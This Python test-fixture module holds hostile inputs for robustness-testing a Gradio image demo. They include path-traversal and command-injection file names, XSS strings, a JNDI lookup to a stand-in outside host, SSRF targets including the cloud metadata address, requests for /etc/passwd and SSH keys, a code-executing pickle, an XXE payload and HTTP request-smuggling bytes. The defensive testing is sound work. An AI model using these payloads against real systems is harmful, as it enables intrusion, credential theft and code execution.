"""Names, calls and requests that are sent to the demo to break it, and no images: those are in `hostile_images`."""

from __future__ import annotations

import json
from typing import Any

from tests.real_data import ROOT
from tests.ui.hostile_images import png

Request = tuple[str, str, dict[str, str], bytes]
"""Method, path, headers, body."""

NAMES = [
    "../../../etc/cron.d/evil.png", "..\\..\\evil.png", "/etc/passwd", "C:\\windows\\evil.png", "a\0b.png",
    "%2e%2e%2f%2e%2e%2fevil.png", "....//....//evil.png", "..%c0%af..%c0%afevil.png", "con.png", "nul", ".", "..", " ",
    ".htaccess", ".png", "evil.png/", "x.png\r\nSet-Cookie: a=b", "<script>window.hurt=1</script>.png",
    "<img src=x onerror=window.hurt=1>.png", '" onmouseover="x.png', "javascript:window.hurt=1.png", "a" * 300 + ".png",
    "ä" * 200 + ".png", "🦊.png", "\u202egnp.exe", "e\u0301.png", "image.svg", "image.html", "image.php",
    "image.png.exe", "`touch evil`.png", "$(touch evil).png", ";touch evil;.png", "|touch evil.png", "{{7*7}}.png",
    "${jndi:ldap://outside.example/x}.png", "%s%s%n.png", "![a](http://outside.example/x).png", "-rf.png", "~root.png",
    "file:///etc/passwd", "http://outside.example/x.png", "\\\\outside.example\\share\\x.png",
    "*?.png", "'; drop--.png",
]  # fmt: skip


# ---------------------------------------------------------------------- calls of the interface


def _file(**facts: Any) -> dict[str, Any]:
    return {"meta": {"_type": "gradio.FileData"}, **facts}


def _deep(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


OUTSIDE = [
    "/etc/passwd", "/etc/hostname", "/proc/self/environ", "/dev/zero", "/dev/random", "/dev/stdin", "/", ".", "..", "~",
    str(ROOT / "ui" / "favicon.png"), str(ROOT / "pyproject.toml"), "ui/server/favicon.png",
    "../../../../../etc/passwd",
    "file:///etc/passwd", "http://outside.example/x.png", "https://127.0.0.1:1/x.png", "ftp://outside.example/x.png",
    "http://169.254.169.254/latest/meta-data", "data:image/png;base64,AAAA", "x\0y", "x" * 5000, "\\\\outside\\x.png",
]  # fmt: skip
CALLS: dict[str, Any] = {
    **{f"path {path[:40]!a}": [_file(path=path), "good"] for path in OUTSIDE},
    **{f"bare path {path[:40]!a}": [{"path": path}, "good"] for path in OUTSIDE[:3]},
    "url beside a path": [_file(path="", url="http://outside.example/x.png"), "good"],
    "url of a file": [_file(path="/etc/passwd", url="file:///etc/passwd"), "good"],
    "path as a number": [_file(path=7), "good"],
    "path as a list": [_file(path=["/etc/passwd"]), "good"],
    "path as nothing": [_file(path=None), "good"],
    "stream": [_file(path="x", is_stream=True), "good"],
    "image as text": ["x", "good"],
    "image as a number": [1e308, "good"],
    "image as a list": [[1, 2, 3], "good"],
    "image as nothing": [None, "good"],
    "hidden in a list": [[_file(path="/etc/passwd")], "good"],
    "hidden deep": [{"a": {"b": [_file(path="/etc/passwd")]}}, "good"],
    "very deep": [_deep(900), "good"],
    "no arguments": [],
    "one argument": [None],
    "fifty arguments": [None] * 50,
    "arguments as text": "good",
    "arguments as nothing": None,
}
MODELS: list[Any] = [
    "", " ", "nothing", "../good", "/etc/passwd", "good/../../x", "good\0", "timm:resnt50", "timm:../../x", "pickle:x",
    "timm:" + "a" * 5000, "http://outside.example/model", "file:///etc/passwd", "x" * 100_000, "🦊",
    "<script>x</script>",
    "broken", "no-weights", 7, 1.5, True, None, [], ["good"], {"a": 1}, _file(path="/etc/passwd"), _deep(100),
]  # fmt: skip


# ---------------------------------------------------------------------- requests

JSON = {"content-type": "application/json"}
FORM = {"content-type": "multipart/form-data; boundary=x"}


def _get(path: str, **headers: str) -> Request:
    return "GET", path, headers, b""


def _post(path: str, body: bytes | Any, headers: dict[str, str] | None = None) -> Request:
    return "POST", path, headers or JSON, body if isinstance(body, bytes) else json.dumps(body).encode()


FILES = [
    "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../../../etc/passwd", "/gradio_api/file=%2Fetc%2Fpasswd",
    "/gradio_api/file=%252Fetc%252Fpasswd", "/gradio_api/file=file:///etc/passwd",
    "/gradio_api/file=/proc/self/environ",
    "/gradio_api/file=/proc/self/fd/0", "/gradio_api/file=/dev/zero", "/gradio_api/file=ui/server/app.py",
    "/gradio_api/file=",
    "/gradio_api/file=.", "/gradio_api/file=~/.ssh/id_rsa", "/gradio_api/file=%00", "/gradio_api/file=\\\\outside\\x",
    f"/gradio_api/file={ROOT}/pyproject.toml", "/gradio_api/file=http://outside.example/x.png",
    "/gradio_api/file=https://127.0.0.1:1/", "/gradio_api/file=%68ttp://outside.example/",
    "/gradio_api/file/etc/passwd",
    "/gradio_api/file=http:/outside.example", "/gradio_api/proxy=http://outside.example/", "/file=/etc/passwd",
    "/static/../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/assets/..%2f..%2froutes.py",
    "/assets/%2e%2e/%2e%2e/routes.py", "/assets//etc/passwd", "/static//etc/passwd", "/svelte/../../routes.py",
    "/gradio_api/custom_component/x/server/component/..%2f..%2froutes.py", "/theme.css/../../x", "//etc/passwd",
    "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.git/config", "/.env", "/wp-login.php", "/ui/server/app.py",
    "/gradio_api/stream/x/1/2/playlist.m3u8", "/gradio_api/stream/..%2fx/1/2/..%2fy.ts",
]  # fmt: skip
REQUESTS: dict[str, Request] = {
    **{f"file {path}": _get(path) for path in FILES},
    "icon of 60 gigabytes": _get("/pwa_icon/120000"),
    "icon of no size": _get("/pwa_icon/0"),
    "icon of -1": _get("/pwa_icon/-1"),
    "monitoring": _get("/monitoring"),
    "monitoring by key": _get("/monitoring/x"),
    "deep link": _get("/gradio_api/deep_link?session_hash=x"),
    "editor": _post("/gradio_api/vibe-edit", {"prompt": "x"}),
    "code": _get("/gradio_api/vibe-code"),
    "past runs": _get("/gradio_api/run-history/records"),
    "screen recording": _post("/gradio_api/process_recording", b"--x--", FORM),
    "function of a component": _post(
        "/gradio_api/component_server", {"session_hash": "x", "component_id": 1, "fn_name": "__init__", "data": 1}
    ),
    "by the side of the queue": _post("/gradio_api/run/predict", {"data": [None, "good"]}),
    "by the side of the queue, old": _post("/gradio_api/api/predict", {"data": [None, "good"]}),
    "unknown endpoint": _post("/gradio_api/call/nothing", {"data": []}),
    "unknown endpoint, version 2": _post("/gradio_api/call/v2/nothing", {"data": []}),
    "private endpoint": _post("/gradio_api/call/__init__", {"data": []}),
    "function by a wrong number": _post("/gradio_api/queue/join", {"data": [], "fn_index": 10**6, "session_hash": "x"}),
    "function by a negative number": _post("/gradio_api/queue/join", {"data": [], "fn_index": -1, "session_hash": "x"}),
    "function by a word": _post("/gradio_api/queue/join", {"data": [], "fn_index": "x", "session_hash": "x"}),
    "no session": _post("/gradio_api/queue/join", {"data": [], "fn_index": 0}),
    "no json": _post("/gradio_api/queue/join", b"{"),
    "nothing": _post("/gradio_api/queue/join", b""),
    "deep json": _post("/gradio_api/queue/join", b"[" * 50_000 + b"]" * 50_000),
    "wide number": _post("/gradio_api/queue/join", b'{"fn_index": ' + b"9" * 5000 + b"}"),
    "not a number": _post("/gradio_api/queue/join", b'{"fn_index": NaN, "data": [Infinity]}'),
    "broken text": _post("/gradio_api/queue/join", b'{"session_hash": "\xff\xfe"}'),
    "pickle": _post("/gradio_api/queue/join", b"cos\nsystem\n(S'touch /tmp/evil'\ntR.", {"content-type": "pickle"}),
    "xml with a file in it": _post(
        "/gradio_api/queue/join", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
    ),
    "body above the limit": _post("/gradio_api/queue/join", b'{"data": ["' + b"x" * 3_000_000 + b'"]}'),
    "response of nobody": _get("/gradio_api/call/predict/nobody"),
    "upload without a form": _post("/gradio_api/upload", b"x"),
    "upload without a boundary": _post("/gradio_api/upload", b"x", {"content-type": "multipart/form-data"}),
    "upload without an end": _post("/gradio_api/upload", b'--x\r\nContent-Disposition: form-data; name="f', FORM),
    "upload without a file": _post("/gradio_api/upload", b"--x--\r\n", FORM),
    "upload of garbage": _post("/gradio_api/upload", bytes(range(256)) * 40, FORM),
    "upload of a header without end": _post("/gradio_api/upload", b"--x\r\nX: " + b"y" * 100_000, FORM),
    "upload of a thousand files": _post(
        "/gradio_api/upload",
        b'--x\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\n1\r\n' * 2000 + b"--x--\r\n",
        FORM,
    ),
    "upload with a foreign origin": _post("/gradio_api/upload", b"--x--", {**FORM, "origin": "http://evil.example"}),
    "progress of nobody's upload": _get("/gradio_api/upload_progress"),
    "cancel nobody": _post("/gradio_api/cancel", {"session_hash": "x", "fn_index": 0}),
    "reset nobody": _post("/gradio_api/reset", {"event_id": "x"}),
    "one request, no image": _post("/api/predict?model=good", b"", {}),
    "one request, no model": _post("/api/predict", png(), {}),
    "one request, garbage": _post("/api/predict?model=good", b"no picture", {}),
    "one request, svg": _post("/api/predict?model=good", b"<svg><script>1</script></svg>", {}),
    "one request, a path as model": _post("/api/predict?model=..%2f..%2fetc%2fpasswd", png(), {}),
    "one request, lines in a model's name": _post("/api/predict?model=x%0aevil%7b%7d%201", png(), {}),
    "one request, a long model's name": _post(f"/api/predict?model={'x' * 5000}", png(), {}),
    "one request, an address as model": _post("/api/predict?model=http://outside.example/x", png(), {}),
    "one request, an unknown detector": _post("/api/predict?model=good&detector=../x", png(), {}),
    "one request, a form without a file": _post("/api/predict?model=good", b"--x--\r\n", FORM),
    "a video, garbage": _post("/api/track?model=good", b"no video", {}),
    "a video, a path as model": _post("/api/track?model=..%2f..%2fetc%2fpasswd", png(), {}),
    "a video, lines of anything": _post("/api/track?model=good&line=1e999,nan,%00,x&rate=-1e9", png(), {}),
    "one request, a form of garbage": _post("/api/predict?model=good", bytes(range(256)), FORM),
    "foreign name": _get("/", host="evil.example"),
    "name with a port of letters": _get("/", host="evil.example:x"),
    "no name": _get("/", host=""),
    "range of nonsense": _get("/theme.css", range="bytes=9-1,-,a-b," + "0-1," * 500),
    "proxy headers": _get("/config", **{"x-forwarded-host": "evil.example<script>"}),
    "method unknown": ("BREW", "/", {}, b""),
    "delete": ("DELETE", "/gradio_api/upload", {}, b""),
    "trace": ("TRACE", "/", {}, b""),
    "put": ("PUT", "/gradio_api/file=x", {}, b"x"),
}

RAW: dict[str, bytes] = {
    "no http": b"\x16\x03\x01\x02\x00\x01\x00" + bytes(100),
    "a line of nonsense": b"hello\r\n\r\n",
    "version 9": b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
    "two lengths": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 9\r\n\r\nx",
    "length and chunks": (
        b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x"
    ),
    "negative length": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: -5\r\n\r\n",
    "length of letters": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: ten\r\n\r\n",
    "chunk of letters": b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    "header of a megabyte": b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 2**20 + b"\r\n\r\n",
    "hundred thousand headers": b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X: y\r\n" * 100_000 + b"\r\n",
    "bytes in a path": b"GET /\xff\xfe\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "address as a path": b"GET http://outside.example/ HTTP/1.1\r\nHost: outside.example\r\n\r\n",
    "tunnel": b"CONNECT outside.example:443 HTTP/1.1\r\nHost: outside.example\r\n\r\n",
    "web socket": (
        b"GET /queue/join HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    ),
    "half a request": b"POST /gradio_api/upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 50\r\n\r\nhalf",
}
